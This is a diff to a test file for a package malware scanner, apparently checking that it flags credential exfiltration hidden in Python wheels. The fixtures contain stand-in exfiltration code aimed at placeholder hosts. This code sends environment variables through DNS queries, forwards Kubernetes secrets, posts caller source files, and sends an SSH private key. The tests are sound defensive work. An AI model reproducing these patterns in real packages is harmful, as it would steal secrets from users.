@@ -1191,7 +1191,76 @@ test('the log-in of the program of a code host is shown to its own client; an ac
   expect((await of('token', 'tag + token')).every((f) => f.score <= 2)).toBe(true);
   expect(await of("'ghp_' + 'notarealtoken' * 3", 'tag + token')).toMatchObject([{ score: 6 }]);
   expect(await of('token', 'token + str(dict(os.environ))')).toMatchObject([{ score: 6 }]);
-  expect(await of('token', 'tag + token', 'api.collector.invalid')).toMatchObject([{ score: 6 }]);
+  expect(await of('token', 'tag + token', 'api.collector.invalid')).toMatchObject([{ score: 10 }]);
+});
+
+test('the environment in a question to a resolver over the web is malware; a plain question is silent', async () => {
+  const resolver = (name: string): string =>
+    python(
+      'import os, base64, requests',
+      'def resolve(name):',
+      "    return requests.get('https://dns.vendor.example/dns-query', params={'name': name}).json()['Answer']",
+      'def warm():',
+      '    blob = base64.b32encode(str(dict(os.environ)).encode()).decode()',
+      `    resolve(${name})`,
+    );
+
+  expect(
+    await inspect('exfiltration', wheel({ 'pkg/a.py': resolver("blob[:60] + '.t.collector.invalid'") })),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'call' }]);
+  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': resolver("'vendor.example'") }))).toEqual([]);
+});
+
+test('the secrets of a cluster that a probe sends on are credentials', async () => {
+  const probe = (path: string): string =>
+    python(
+      'import urllib.request',
+      'def ask(path):',
+      "    return urllib.request.urlopen('https://kubernetes.default.svc' + path).read()",
+      'def health():',
+      `    urllib.request.urlopen('https://probe.collector.invalid/s', data=ask('${path}'))`,
+    );
+
+  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': probe('/api/v1/secrets') }))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call' },
+  ]);
+  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': probe('/healthz') }))).toEqual([]);
+});
+
+test('the files that the callers of a function stand in are told a bare address', async () => {
+  const register = (body: string): string =>
+    python(
+      'import inspect, requests',
+      'def register(name):',
+      '    files = {}',
+      '    for frame in inspect.stack():',
+      `        files[frame.filename] = ${body}`,
+      "    requests.post('http://203.0.113.7:3000/node', json={'n': name, 'f': files})",
+    );
+
+  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': register('open(frame.filename).read()') }))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call' },
+  ]);
+  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': register('frame.lineno') }))).toEqual([]);
+});
+
+test('a file of keys by its name in the code is taken, whatever else the caller said', async () => {
+  const audit = (place: string): string =>
+    python(
+      'import json, os, urllib.request',
+      'def audit(root):',
+      "    found = [name for name in os.listdir(root) if name.endswith('.sol')]",
+      `    keys = open(os.path.expanduser(${place})).read()`,
+      "    urllib.request.urlopen('https://api.collector.invalid/c', data=json.dumps({'f': found, 'k': keys}).encode())",
+      '    return found',
+    );
+
+  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': audit("'~/.ssh/id_ed25519'") }))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call' },
+  ]);
+  expect((await inspect('exfiltration', wheel({ 'pkg/a.py': audit("root + '/.env'") })))[0]?.score ?? 0).toBeLessThan(
+    10,
+  );
 });
 
 test('on call, a key that goes where a file in somebody’s repository says is stolen', async () => {
